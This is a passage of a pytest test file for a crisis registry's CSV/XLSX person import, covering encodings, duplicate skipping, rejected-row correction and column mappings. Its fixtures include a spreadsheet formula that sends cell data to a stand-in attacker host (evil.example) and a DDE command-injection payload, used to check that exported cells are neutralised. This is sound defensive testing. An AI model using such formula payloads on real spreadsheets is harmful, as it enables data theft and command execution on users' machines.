"""The person import (registry/imports.py): a CSV or XLSX file's valid rows become persons who
keep their batch and row, its invalid rows are kept with every field's reasons, rows the
registry already holds are skipped, nothing is lost and nothing is added twice; files refused
whole, and dry runs, write nothing; rejected rows are corrected, or downloaded with their
reasons, fixed and imported again; `manage.py registry_import` does it from the shell.

Files are real, built in each test (csv and openpyxl), in the encodings they name."""

import csv
import io
import json
from datetime import date, datetime

import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import IntegrityError, transaction

from crisisdesk.common.models import AuditEvent
from crisisdesk.common.origin import CLI, SYSTEM
from crisisdesk.common.spreadsheets import FORMULA_PREFIXES
from crisisdesk.registry.errors import (
    IMPORT_FIELD_MESSAGES,
    ImportFieldError,
    ImportRefused,
    RegistryError,
    RegistryValidationError,
)
from crisisdesk.registry.imports import (
    CELL_MAX_CHARS,
    CUT_MARKER,
    FIELDS,
    column_field,
    column_mapping_save,
    import_rejected_csv,
    import_row_correct,
    person_import,
    person_row_parse,
)
from crisisdesk.registry.models import (
    ColumnMapping,
    ContactPoint,
    IdentityDocument,
    ImportBatch,
    ImportRejectedRow,
    Person,
    PersonName,
    StatusEvent,
)

pytestmark = pytest.mark.django_db

E = ImportFieldError
HEADER = [
    "First name",
    "Last name",
    "First name (Latin)",
    "Last name (Latin)",
    "Sex",
    "Date of birth",
    "Citizenship",
    "Phone",
    "Email",
    "Passport number",
    "Region",
    "City",
    "Intent",
    "Needs",
    "Notes",  # no field: not imported, and not kept
]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"details")'
PERSON = "person"


def _row(**cells) -> list:
    """A row of HEADER, by the field each column fills (`notes` for the last)."""
    order = [
        "given_name",
        "family_name",
        "passport_given_name",
        "passport_family_name",
        "sex",
        "birth_date",
        "citizenships",
        "phone",
        "email",
        "passport_number",
        "region",
        "city",
        "intent",
        "needs_note",
        "notes",
    ]
    return [cells.get(name, "") for name in order]


def broken_rows(*, typed: bool = False) -> tuple[list[list], dict[int, object]]:
    """A file of good and broken rows, and what each row (by its spreadsheet number, the header
    being 1) must become: PERSON, or its errors by field. With `typed`, the cells are what a
    spreadsheet stores (a date cell), otherwise text."""
    rows = [
        HEADER,
        # 2: everything given, in Ukrainian, with names of countries and of the region
        _row(
            given_name="Олена",
            family_name="Коваленко",
            passport_given_name="Olena",
            passport_family_name="Kovalenko",
            sex="жінка",
            birth_date=datetime(1985, 6, 15) if typed else "15.06.1985",
            citizenships="Україна, Israel",
            phone="050 123 4567",
            email="Olena.K@Example.com",
            passport_number="FA123456",
            region="Львівська область",
            city="Львів",
            intent="виїхати",
            needs_note="insulin",
            notes="called twice",
        ),
        # 3: in Hebrew, a month of birth, an Israeli number
        _row(
            given_name="אלנה",
            family_name="קובלנקו",
            sex="נקבה",
            birth_date="1985-06",
            citizenships="ישראל",
            phone="+972-54-765-4321",
            region="UA-46",
            intent="להישאר",
        ),
        # 4: a date that does not exist
        _row(given_name="Дмитро", family_name="Шевченко", sex="M", birth_date="31.02.1990"),
        # 5: not a date
        _row(given_name="Ivan", family_name="Petrenko", birth_date="sometime in May"),
        # 6: not a phone number
        _row(given_name="Anna", family_name="Levi", phone="12345"),
        # 7: no name, only the passport's
        _row(given_name="", family_name="  ", passport_given_name="Olga", passport_family_name="Shapiro"),
        # 8: a cell longer than any field holds
        _row(given_name="Maria", family_name="Bondar", needs_note="x" * 5000),
        # 9: formulas: text like any other, imported as written
        _row(given_name=HYPERLINK, family_name="Smith", needs_note="@SUM(A1:A9)", notes="+cmd|' /C calc'!A0"),
        # 10: a country that does not exist
        _row(given_name="Yosef", family_name="Cohen", citizenships="Atlantis"),
        # 11: not an e-mail address
        _row(given_name="Sofia", family_name="Melnyk", email="olena@"),
        # 12: five faults at once, all reported
        _row(
            given_name="Petro",
            family_name="Kravets",
            sex="?",
            birth_date="2090",
            phone="call me",
            region="Mordor",
            intent="maybe",
        ),
        # 13: wholly blank: not a data row
        [None if typed else ""] * len(HEADER),
        # 14: a month and year, a country code
        _row(given_name="Iryna", family_name="Tkachenko", birth_date="06/1985", citizenships="UA"),
        # 15: a year alone, a Kyivstar number with spaces, a region code
        _row(given_name="Oleh", family_name="Lysenko", birth_date="1979", phone="+380 67 765 43 21", region="UA-30"),
    ]
    expected = {
        2: PERSON,
        3: PERSON,
        4: {"birth_date": [E.DATE_INVALID]},
        5: {"birth_date": [E.NOT_A_DATE]},
        6: {"phone": [E.PHONE_INVALID]},
        7: {"given_name": [E.NAME_EMPTY]},
        8: {"needs_note": [E.TOO_LONG]},
        9: PERSON,
        10: {"citizenships": [E.COUNTRY_UNKNOWN]},
        11: {"email": [E.EMAIL_INVALID]},
        12: {
            "sex": [E.SEX_UNKNOWN],
            "birth_date": [E.DATE_IN_FUTURE],
            "phone": [E.PHONE_INVALID],
            "region": [E.REGION_UNKNOWN],
            "intent": [E.INTENT_UNKNOWN],
        },
        14: PERSON,
        15: PERSON,
    }
    return rows, expected


def csv_bytes(rows: list[list], *, encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter).writerows(["" if cell is None else cell for cell in row] for row in rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def file_of(rows: list[list], file_format: str) -> bytes:
    return csv_bytes(rows) if file_format == "csv" else xlsx_bytes(rows)


@pytest.fixture
def consul(users):
    return users["consul"]


def _import(actor, content: bytes, **options):
    return person_import(
        actor=actor, origin=SYSTEM, file_name=options.pop("file_name", "persons.csv"), content=content, **options
    )


def _counts() -> dict[str, int]:
    return {
        "persons": Person.objects.count(),
        "batches": ImportBatch.objects.count(),
        "rejected": ImportRejectedRow.objects.count(),
        "audit": AuditEvent.objects.count(),
        "events": StatusEvent.objects.count(),
    }


# --- a file with broken rows ---------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_valid_rows_become_persons_and_broken_rows_are_kept_with_every_reason(consul, file_format):
    """Exact counts: each data row is a person or a rejected row with its errors by field,
    every error of a row at once; the blank row is no data row; nothing is lost."""
    rows, expected = broken_rows(typed=file_format == "xlsx")

    result = _import(consul, file_of(rows, file_format), file_name=f"../../people.{file_format}")

    batch = result.batch
    people = [number for number, outcome in expected.items() if outcome == PERSON]
    assert (result.rows_total, result.rows_imported, result.rows_rejected, result.rows_skipped_duplicate) == (
        13,
        len(people),
        13 - len(people),
        0,
    )
    assert (batch.rows_total, batch.rows_imported, batch.rows_rejected, batch.rows_skipped_duplicate) == (13, 5, 8, 0)
    assert batch.file_name == f"people.{file_format}"  # no directories: safe_file_name
    assert batch.file_format == file_format
    assert batch.imported_by == consul
    assert {row.row_number: row.errors for row in batch.rejected_rows.all()} == {
        number: {field: [code.value for code in codes] for field, codes in outcome.items()}
        for number, outcome in expected.items()
        if outcome != PERSON
    }
    assert sorted(Person.objects.values_list("import_row", flat=True)) == people
    assert "Notes" in result.ignored_columns


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_every_imported_person_keeps_batch_file_and_row(consul, file_format):
    rows, _expected = broken_rows(typed=file_format == "xlsx")

    batch = _import(consul, file_of(rows, file_format), file_name=f"people.{file_format}").batch

    olena = Person.objects.get(import_row=2)
    assert (olena.import_batch, olena.import_batch.file_name, olena.import_row) == (batch, f"people.{file_format}", 2)
    assert (olena.given_name, olena.family_name, olena.sex) == ("Олена", "Коваленко", "F")
    assert (olena.birth_year, olena.birth_month, olena.birth_day) == (1985, 6, 15)
    assert (olena.region, olena.city, olena.intent, olena.needs_note) == ("UA-46", "Львів", "leave", "insulin")
    assert sorted(olena.citizenships.values_list("country", flat=True)) == ["IL", "UA"]
    assert olena.citizenship_mix == "IL+UA"
    assert sorted((c.kind, c.value) for c in olena.contacts.all()) == [
        ("email", "olena.k@example.com"),
        ("phone", "+380501234567"),
    ]
    assert [(d.kind, d.number) for d in olena.documents.all()] == [(IdentityDocument.Kind.PASSPORT, "FA123456")]
    assert [(n.kind, n.given_name, n.family_name) for n in olena.other_names.all()] == [
        (PersonName.Kind.PASSPORT, "Olena", "Kovalenko")
    ]
    assert olena.created_by == consul
    assert list(olena.timeline.values_list("kind", "source")) == [("registered", StatusEvent.Source.IMPORT)]
    hebrew = Person.objects.get(import_row=3)
    assert (hebrew.given_name, hebrew.birth_year, hebrew.birth_month, hebrew.birth_day) == ("אלנה", 1985, 6, None)
    assert (hebrew.intent, hebrew.citizenship_mix) == ("stay", "IL")
    assert Person.objects.get(import_row=14).birth_display == "1985-06"
    assert Person.objects.get(import_row=15).birth_display == "1979"
    assert set(Person.objects.values_list("import_batch", flat=True)) == {batch.pk}
    assert Person.objects.filter(import_key__isnull=True).count() == 0


def test_formula_cells_are_imported_as_text(consul):
    """A formula in a cell is text: imported as written (never evaluated, never dropped); the
    files we write neutralise it (see the errors file below)."""
    rows, _expected = broken_rows()

    _import(consul, csv_bytes(rows))

    person = Person.objects.get(import_row=9)
    assert (person.given_name, person.family_name, person.needs_note) == (HYPERLINK, "Smith", "@SUM(A1:A9)")


def test_a_rejected_row_keeps_its_mapped_cells_and_a_long_cell_cut_short(consul):
    rows, _expected = broken_rows()

    batch = _import(consul, csv_bytes(rows)).batch

    long_row = batch.rejected_rows.get(row_number=8)
    assert long_row.values["needs_note"] == "x" * CELL_MAX_CHARS + CUT_MARKER
    assert long_row.values["given_name"] == "Maria"
    assert set(long_row.values) == set(FIELDS)  # the mapped columns, by field; "Notes" is not kept
    assert batch.rejected_rows.get(row_number=6).values["phone"] == "12345"


@pytest.mark.parametrize(
    "file_format",
    ["csv", "xlsx"],
)
def test_a_ten_megabyte_cell_rejects_its_row_only(consul, file_format):
    """The issue's 10 MB cell: the row is refused as too long, kept cut short, and the other
    rows import. (Excel cells hold 32,767 characters: an XLSX brings that much of it.)"""
    rows = [HEADER, _row(given_name="Maria", family_name="Bondar", needs_note="y" * 10_000_000), _row(given_name="Ok")]

    result = _import(consul, file_of(rows, file_format))

    assert (result.rows_imported, result.rows_rejected) == (1, 1)
    (row,) = result.batch.rejected_rows.all()
    assert row.errors == {"needs_note": [E.TOO_LONG]}
    assert len(row.values["needs_note"]) == CELL_MAX_CHARS + len(CUT_MARKER)


def test_the_batch_is_audited_with_counts_and_never_a_cell(consul):
    rows, _expected = broken_rows()
    content = csv_bytes(rows)

    batch = _import(consul, content).batch

    audit = AuditEvent.objects.get(action=AuditEvent.Action.PERSONS_IMPORTED)
    assert (audit.actor, audit.target_type, audit.target_id) == (consul, "registry.importbatch", str(batch.pk))
    assert audit.changes == {
        "file": batch.sha256[:12],
        "format": "csv",
        "mapping": "",
        "rows": 13,
        "imported": 5,
        "rejected": 8,
        "skipped_duplicate": 0,
    }
    created = AuditEvent.objects.filter(action=AuditEvent.Action.PERSON_CREATED)
    assert sorted(created.values_list("person_id", flat=True)) == sorted(Person.objects.values_list("id", flat=True))
    every_audit = json.dumps(list(AuditEvent.objects.values("changes", "target_id", "actor_label")), ensure_ascii=False)
    for personal in ("Олена", "Коваленко", "050", "olena", "FA123456", "Maria", "12345"):
        assert personal not in every_audit


def test_the_counts_always_add_up_in_the_database(consul):
    """Nothing lost is a constraint, not a habit."""
    rows, _expected = broken_rows()
    batch = _import(consul, csv_bytes(rows)).batch

    with pytest.raises(IntegrityError), transaction.atomic():
        ImportBatch.objects.filter(pk=batch.pk).update(rows_rejected=batch.rows_rejected - 1)


# --- encodings, delimiters, XLSX --------------------------------------------------------------

UKRAINIAN = [
    ["Ім'я", "Прізвище", "Стать", "Дата народження", "Громадянство", "Телефон", "Місто"],
    ["Олена", "Коваленко", "жінка", "15.06.1985", "Україна", "050 123 4567", "Львів"],
    ["Тарас", "Шевченко", "чоловік", "09.03.1984", "Україна, Ізраїль", "+380 67 765 43 21", "Київ"],
    ["Ґанна", "Їжакевич", "Ж", "1990", "UA", "", "Житомир"],
    ["Євген", "Щербань", "м", "05/1978", "Ізраїль", "", "Одеса"],
]
RUSSIAN = [
    ["Имя", "Фамилия", "Пол", "Дата рождения", "Гражданство", "Телефон", "Город"],
    ["Наталья", "Воробьёва", "женский", "01.01.1970", "Израиль", "+972-54-765-4321", "Харьков"],
    ["Сергей", "Кузнецов", "мужской", "1965", "Украина", "0671234567", "Днепр"],
    ["Юлия", "Эйдельман", "ж", "12/1999", "Израиль, Украина", "", "Одесса"],
]
HEBREW = [
    ["שם פרטי", "שם משפחה", "מין", "תאריך לידה", "אזרחות", "טלפון", "עיר"],
    ["אלנה", "קובלנקו", "נקבה", "15.06.1985", "ישראל", "+972-54-765-4321", "לבוב"],
    ["דוד", "לוי", "זכר", "1960", "ישראל, אוקראינה", "", "קייב"],
    ["שרה", "כהן", "נקבה", "03/1977", "IL", "", "חרקוב"],
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize(
    ("encoding", "rows", "reported"),
    [
        ("utf-8", UKRAINIAN, "utf-8"),
        ("utf-8-sig", HEBREW, "utf-8-sig"),
        ("utf-16", RUSSIAN, "utf-16"),
        ("cp1251", UKRAINIAN, "cp1251"),
        ("cp1251", RUSSIAN, "cp1251"),
        ("koi8-u", UKRAINIAN, "koi8-u"),
        ("koi8-u", RUSSIAN, "koi8-u"),
        # ISO-8859-8's letters are Windows-1255's: the reader names the one Hebrew Excel saves.
        ("iso-8859-8", HEBREW, "cp1255"),
    ],
)
def test_csv_in_each_encoding_and_delimiter_reads_names_as_written(consul, encoding, rows, reported, delimiter):
    """Headers in Ukrainian, Russian or Hebrew; the encoding and the delimiter found, and told."""
    result = _import(consul, csv_bytes(rows, encoding=encoding, delimiter=delimiter))

    assert (result.rows_total, result.rows_imported, result.rows_rejected) == (len(rows) - 1, len(rows) - 1, 0)
    assert result.encoding == reported
    assert result.delimiter == delimiter
    assert (result.batch.encoding, result.batch.delimiter) == (result.encoding, delimiter)
    written = [(row[0], row[1], row[6]) for row in rows[1:]]
    assert sorted(Person.objects.values_list("given_name", "family_name", "city")) == sorted(written)
    first = Person.objects.get(import_row=2)
    assert first.birth_year is not None and first.sex in {"F", "M"}


def test_xlsx_date_cells_and_numbers_are_read_as_the_sheet_shows_them(consul):
    rows = [
        ["Given name", "Family name", "Date of birth", "Phone", "Passport number"],
        ["Olena", "Koval", datetime(1985, 6, 15), "+380501234567", 123456789],
        ["David", "Levi", date(1960, 1, 2), "+972502345678", "AB 1234567"],
        ["Sara", "Cohen", 1977, "", ""],
    ]

    result = _import(consul, xlsx_bytes(rows), file_name="people.xlsx")

    assert (result.file_format, result.encoding, result.delimiter) == ("xlsx", "", "")
    assert (result.rows_imported, result.rows_rejected) == (3, 0)
    assert [(p.given_name, p.birth_display) for p in Person.objects.order_by("import_row")] == [
        ("Olena", "1985-06-15"),
        ("David", "1960-01-02"),
        ("Sara", "1977"),
    ]
    assert sorted(IdentityDocument.objects.values_list("number", flat=True)) == ["123456789", "AB 1234567"]


# --- the same file, the same rows ------------------------------------------------------------


def test_the_same_file_twice_is_refused_and_adds_nothing(consul, users):
    rows, _expected = broken_rows()
    content = csv_bytes(rows)
    first = _import(consul, content).batch
    before = _counts()

    for dry_run in (False, True):
        with pytest.raises(ImportRefused) as refused:
            _import(users["desk_chief"], content, file_name="another name.csv", dry_run=dry_run)
        assert refused.value.code == RegistryError.IMPORT_ALREADY
        assert refused.value.details == {"batch": first.pk}

    assert _counts() == before


def test_rows_already_imported_are_skipped_whichever_file_brings_them(consul):
    """Another file (a blank line more, a date written otherwise, letters in other case): the
    rows it shares with the registry are counted as skipped, not inserted."""
    rows, _expected = broken_rows()
    first = _import(consul, csv_bytes(rows))
    again = [list(row) for row in rows]
    again[1][5] = "1985-06-15"  # row 2's date, written the ISO way
    again[1][1] = "КОВАЛЕНКО"
    again.append(_row(given_name="New", family_name="Person"))

    second = _import(consul, csv_bytes(again) + b"\r\n")

    assert (second.rows_total, second.rows_imported, second.rows_rejected, second.rows_skipped_duplicate) == (
        14,
        1,
        8,
        5,
    )
    assert Person.objects.count() == first.rows_imported + 1
    assert Person.objects.get(import_batch=second.batch).given_name == "New"


def test_a_row_repeated_within_a_file_is_imported_once(consul):
    rows = [HEADER, _row(given_name="Olena", family_name="Koval"), _row(given_name="Olena", family_name="Koval")]

    result = _import(consul, csv_bytes(rows))

    assert (result.rows_total, result.rows_imported, result.rows_skipped_duplicate) == (2, 1, 1)


# --- the file of errors, fixed and imported again --------------------------------------------


def _read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_the_errors_file_fixed_and_imported_again_adds_only_the_fixed_rows(consul):
    """Download the rejected rows with their reasons, fix some in a spreadsheet, import that
    file: the fixed rows become persons, the others are rejected again with their reasons,
    nothing already imported is duplicated; the reasons column is not a field and is ignored."""
    rows, _expected = broken_rows()
    rows.append(_row(given_name=HYPERLINK, family_name="Formula", phone="not a phone"))  # row 16
    first = _import(consul, csv_bytes(rows))

    errors_file = import_rejected_csv(actor=consul, origin=SYSTEM, batch=first.batch)

    table = _read_csv(errors_file)
    header, body = table[0], table[1:]
    assert header[0] == "row" and header[-1] == "errors"
    assert header[1:-1] == list(FIELDS)
    assert [line[0] for line in body] == ["4", "5", "6", "7", "8", "10", "11", "12", "16"]
    by_row = {line[0]: dict(zip(header, line, strict=True)) for line in body}
    assert by_row["6"]["errors"] == f"phone: {IMPORT_FIELD_MESSAGES[E.PHONE_INVALID]}"
    assert "sex: " in by_row["12"]["errors"] and "intent: " in by_row["12"]["errors"]
    # Every cell safe to open in a spreadsheet: a formula-like cell starts with an apostrophe.
    assert by_row["16"]["given_name"] == "'" + HYPERLINK
    for line in body:
        assert not any(cell.startswith(FORMULA_PREFIXES) for cell in line)

    # Fix three rows, leave the rest as they are.
    by_row["4"]["birth_date"] = "28.02.1990"
    by_row["6"]["phone"] = "+380931112233"
    by_row["16"]["phone"] = "'+380677654321"  # what a spreadsheet keeps of a typed +380…
    fixed = [header] + [[by_row[line[0]][name] for name in header] for line in body]
    second = _import(consul, csv_bytes(fixed), file_name="errors fixed.csv")

    assert (second.rows_total, second.rows_imported, second.rows_rejected, second.rows_skipped_duplicate) == (
        9,
        3,
        6,
        0,
    )
    assert set(second.ignored_columns) == {"row", "errors"}
    assert Person.objects.count() == first.rows_imported + 3
    formula = Person.objects.get(family_name="Formula")
    assert formula.given_name == HYPERLINK  # our own apostrophe taken off again, the formula text kept
    assert formula.contacts.get().value == "+380677654321"
    assert Person.objects.get(family_name="Levi").contacts.get().value == "+380931112233"

    # The original file again, in another copy: nothing more.
    third = _import(consul, csv_bytes(rows) + b"\n")
    assert (third.rows_imported, third.rows_skipped_duplicate, third.rows_rejected) == (0, 5, 9)
    # ... and the fixed errors file again, in another copy: nothing more either.
    fourth = _import(consul, csv_bytes(fixed) + b"\n")
    assert (fourth.rows_imported, fourth.rows_skipped_duplicate, fourth.rows_rejected) == (0, 3, 6)
    assert Person.objects.count() == first.rows_imported + 3


def test_the_errors_file_leaves_out_corrected_rows_and_is_audited(consul):
    rows, _expected = broken_rows()
    batch = _import(consul, csv_bytes(rows)).batch
    import_row_correct(
        actor=consul, origin=SYSTEM, row=batch.rejected_rows.get(row_number=6), values={"phone": "+380931112233"}
    )

    table = _read_csv(import_rejected_csv(actor=consul, origin=SYSTEM, batch=batch))

    assert "6" not in [line[0] for line in table[1:]]
    assert len(table) - 1 == batch.rows_rejected - 1
    audit = AuditEvent.objects.get(action=AuditEvent.Action.IMPORT_REJECTED_EXPORTED)
    assert (audit.target_id, audit.changes) == (str(batch.pk), {"rows": batch.rows_rejected - 1})


# --- correcting a row --------------------------------------------------------------------------


def test_a_corrected_row_becomes_a_person_linked_to_it(consul):
    rows, _expected = broken_rows()
    batch = _import(consul, csv_bytes(rows)).batch
    row = batch.rejected_rows.get(row_number=12)

    person = import_row_correct(
        actor=consul,
        origin=CLI,
        row=row,
        values={"sex": "M", "birth_date": "1990", "phone": "", "region": "UA-46", "intent": "leave"},
    )

    row.refresh_from_db()
    assert row.resolved_person == person and row.resolved_at is not None
    assert row.values["phone"] == "call me"  # the row keeps what the file said
    assert (person.given_name, person.family_name, person.sex, person.birth_year) == ("Petro", "Kravets", "M", 1990)
    assert (person.import_batch, person.import_row) == (batch, 12)
    audit = AuditEvent.objects.get(action=AuditEvent.Action.IMPORT_ROW_CORRECTED)
    assert (audit.person_id, audit.channel) == (person.pk, "cli")
    assert audit.changes == {
        "batch": batch.pk,
        "row": 12,
        "fields": ["birth_date", "intent", "phone", "region", "sex"],
        "already_in_registry": False,
    }
    assert AuditEvent.objects.filter(action=AuditEvent.Action.PERSON_CREATED, person_id=person.pk).count() == 1


def test_a_row_is_corrected_once(consul):
    rows, _expected = broken_rows()
    row = _import(consul, csv_bytes(rows)).batch.rejected_rows.get(row_number=5)
    import_row_correct(actor=consul, origin=SYSTEM, row=row, values={"birth_date": "1980"})
    persons = Person.objects.count()

    with pytest.raises(ImportRefused) as refused:
        import_row_correct(actor=consul, origin=SYSTEM, row=row, values={"birth_date": "1981"})

    assert refused.value.code == RegistryError.IMPORT_ROW_RESOLVED
    assert Person.objects.count() == persons


def test_a_correction_that_still_has_errors_changes_nothing(consul):
    rows, _expected = broken_rows()
    row = _import(consul, csv_bytes(rows)).batch.rejected_rows.get(row_number=12)
    before = _counts()

    with pytest.raises(ImportRefused) as refused:
        import_row_correct(actor=consul, origin=SYSTEM, row=row, values={"sex": "F", "phone": "still not"})

    assert refused.value.code == RegistryError.IMPORT_ROW_INVALID
    assert refused.value.details == {
        "birth_date": [E.DATE_IN_FUTURE],
        "phone": [E.PHONE_INVALID],
        "region": [E.REGION_UNKNOWN],
        "intent": [E.INTENT_UNKNOWN],
    }
    row.refresh_from_db()
    assert row.resolved_person is None
    assert _counts() == before


def test_a_correction_the_registry_already_holds_links_the_person_there(consul):
    """Row 6 imported since from a fixed file: correcting it to the same values inserts nothing."""
    rows, _expected = broken_rows()
    batch = _import(consul, csv_bytes(rows)).batch
    fixed = [HEADER, [*rows[5][:7], "+380931112233", *rows[5][8:]]]
    _import(consul, csv_bytes(fixed), file_name="fix.csv")
    existing = Person.objects.get(family_name="Levi")

    person = import_row_correct(
        actor=consul, origin=SYSTEM, row=batch.rejected_rows.get(row_number=6), values={"phone": "+380 93 111 22 33"}
    )

    assert person == existing
    assert Person.objects.filter(family_name="Levi").count() == 1
    assert AuditEvent.objects.get(action=AuditEvent.Action.IMPORT_ROW_CORRECTED).changes["already_in_registry"]


# --- dry runs ----------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_dry_run_writes_nothing_and_counts_as_the_import_will(consul, file_format):
    rows, expected = broken_rows(typed=file_format == "xlsx")
    content = file_of(rows, file_format)
    before = _counts()

    dry = _import(consul, content, dry_run=True)

    assert _counts() == before
    assert dry.batch is None and dry.dry_run
    assert [row.row_number for row in dry.first_rejected] == [n for n, outcome in expected.items() if outcome != PERSON]
    assert dry.first_rejected[0].errors == {"birth_date": ["date_invalid"]}
    assert [number for number, _person in dry.first_accepted] == [2, 3, 9, 14, 15]
    assert dry.first_accepted[0][1].given_name == "Олена"
    real = _import(consul, content)
    assert (dry.rows_total, dry.rows_imported, dry.rows_rejected, dry.rows_skipped_duplicate) == (
        real.rows_total,
        real.rows_imported,
        real.rows_rejected,
        real.rows_skipped_duplicate,
    )


# --- files refused whole -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "code", "details"),
    [
        (b"", RegistryError.IMPORT_FILE_REFUSED, {"reason": "file_empty"}),
        (b"%PDF-1.7 not a sheet", RegistryError.IMPORT_FILE_REFUSED, {"reason": "file_unreadable"}),
        (
            b"Phone,Email\n+380501234567,a@example.com\n",
            RegistryError.IMPORT_COLUMNS_MISSING,
            {"missing": ["given_name", "family_name"]},
        ),
        (
            "First name,Phone,Телефон\nOlena,+380501234567,+380501234567\n".encode(),
            RegistryError.IMPORT_COLUMNS_DUPLICATE,
            {"duplicated": {"phone": ["Phone", "Телефон"]}},
        ),
        (b"First name,Last name\n", RegistryError.IMPORT_NO_ROWS, {}),
    ],
)
def test_a_file_refused_whole_writes_nothing(consul, content, code, details):
    before = _counts()

    with pytest.raises(ImportRefused) as refused:
        _import(consul, content)

    assert refused.value.code == code
    assert details.items() <= refused.value.details.items()
    assert refused.value.message
    assert _counts() == before


def test_a_file_over_the_row_limit_is_refused(consul, monkeypatch):
    from crisisdesk.registry import imports

    monkeypatch.setattr(imports, "IMPORT_MAX_ROWS", 3)
    rows = [HEADER, *[_row(given_name=f"P{n}") for n in range(4)]]

    with pytest.raises(ImportRefused) as refused:
        _import(consul, csv_bytes(rows))

    assert refused.value.details["reason"] == "too_many_rows"
    assert refused.value.details["max_rows"] == 3


# --- column mappings ---------------------------------------------------------------------------

GOOGLE_FORM = [
    [
        "Timestamp",
        "Your name",
        "Your surname",
        "Contact number",
        "Where are you now? (oblast)",
        "Do you plan to leave?",
    ],
    ["2022/02/26 10:15:00", "Olena", "Kovalenko", "+380501234567", "UA-46", "leave"],
    ["2022/02/26 11:40:00", "Taras", "Melnyk", "0671234567", "UA-30", "stay"],
]
GOOGLE_COLUMNS = {
    "Timestamp": "",
    "Your name": "given_name",
    "Your surname": "family_name",
    "Contact number": "phone",
    "Where are you now? (oblast)": "region",
    "Do you plan to leave?": "intent",
}


def test_a_saved_mapping_reads_a_file_the_synonyms_do_not(consul):
    content = csv_bytes(GOOGLE_FORM)
    with pytest.raises(ImportRefused) as refused:
        _import(consul, content)
    assert refused.value.code == RegistryError.IMPORT_COLUMNS_MISSING

    mapping = column_mapping_save(actor=consul, origin=SYSTEM, name="Google Form 2022", columns=GOOGLE_COLUMNS)
    result = _import(consul, content, mapping=mapping)

    assert (result.rows_imported, result.rows_rejected, result.mapping_name) == (2, 0, "Google Form 2022")
    assert result.columns == {text: field for text, field in GOOGLE_COLUMNS.items() if field}
    assert result.batch.mapping_name == "Google Form 2022"
    assert [(p.given_name, p.region, p.intent) for p in Person.objects.order_by("import_row")] == [
        ("Olena", "UA-46", "leave"),
        ("Taras", "UA-30", "stay"),
    ]
    assert ContactPoint.objects.filter(kind="phone").count() == 2
    audit = AuditEvent.objects.get(action=AuditEvent.Action.COLUMN_MAPPING_SAVED)
    assert (audit.target_id, audit.changes) == (str(mapping.pk), {"columns": 6, "created": True})


def test_a_saved_mapping_wins_over_the_synonyms_and_can_ignore_a_column(consul):
    """ "Phone" is a synonym; this mapping reads the work phone column instead and ignores it."""
    rows = [["Name", "Surname", "Phone", "Work phone"], ["Olena", "Koval", "not a phone", "+380501234567"]]
    columns = {"name": "given_name", "SURNAME": "family_name", "Phone": "", "Work phone": "phone"}
    mapping = column_mapping_save(actor=consul, origin=SYSTEM, name="Hotline", columns=columns)

    result = _import(consul, csv_bytes(rows), mapping=mapping)

    assert (result.rows_imported, result.ignored_columns) == (1, ("Phone",))
    assert Person.objects.get().contacts.get().value == "+380501234567"


def test_saving_a_mapping_again_replaces_its_columns_and_checks_them(consul):
    column_mapping_save(actor=consul, origin=SYSTEM, name="Google Form 2022", columns={"A": "given_name"})
    mapping = column_mapping_save(actor=consul, origin=SYSTEM, name=" Google Form 2022 ", columns=GOOGLE_COLUMNS)

    assert ColumnMapping.objects.get() == mapping
    assert mapping.columns == GOOGLE_COLUMNS
    with pytest.raises(RegistryValidationError) as unknown:
        column_mapping_save(actor=consul, origin=SYSTEM, name="Bad", columns={"Shoe size": "shoe_size"})
    assert unknown.value.code == RegistryError.MAPPING_FIELD_UNKNOWN
    with pytest.raises(RegistryValidationError) as nameless:
        column_mapping_save(actor=consul, origin=SYSTEM, name="  ", columns={})
    assert nameless.value.code == RegistryError.MAPPING_NAME_EMPTY


# --- headers and cells -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("First name", "given_name"),
        ("given_name", "given_name"),
        ("Имя", "given_name"),
        ("Ім'я", "given_name"),
        ("ІМ’Я", "given_name"),
        ("שם פרטי", "given_name"),
        ("Surname", "family_name"),
        ("Прізвище", "family_name"),
        ("שם משפחה", "family_name"),
        ("Last name (Latin)", "passport_family_name"),
        ("Прізвище латиницею", "passport_family_name"),
        ("Phone", "phone"),
        ("Телефон", "phone"),
        ("טלפון", "phone"),
        ("E-mail", "email"),
        ('דוא"ל', "email"),
        ("Date of Birth", "birth_date"),
        ("Дата рождения", "birth_date"),
        ("Громадянство", "citizenships"),
        ("Passport No.", "passport_number"),
        ("Область", "region"),
        ("Місто", "city"),
        ("Намерение", "intent"),
        ("Timestamp", None),
        ("Name", None),  # a full name or a given name: not guessed
    ],
)
def test_header_synonyms_in_four_languages(header, field):
    assert column_field(header) == field


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        ({"given_name": "A", "sex": "Чоловік"}, {"sex": "M"}),
        ({"given_name": "A", "sex": "זכר"}, {"sex": "M"}),
        ({"given_name": "A", "sex": "Female"}, {"sex": "F"}),
        ({"given_name": "A", "sex": "x"}, {"sex": "X"}),
        ({"given_name": "A", "sex": ""}, {"sex": "U"}),
        ({"given_name": "A", "birth_date": "15.06.1985"}, {"birth_year": 1985, "birth_month": 6, "birth_day": 15}),
        ({"given_name": "A", "birth_date": "15/06/1985"}, {"birth_year": 1985, "birth_month": 6, "birth_day": 15}),
        (
            {"given_name": "A", "birth_date": "1985-06-15 00:00"},
            {"birth_year": 1985, "birth_month": 6, "birth_day": 15},
        ),
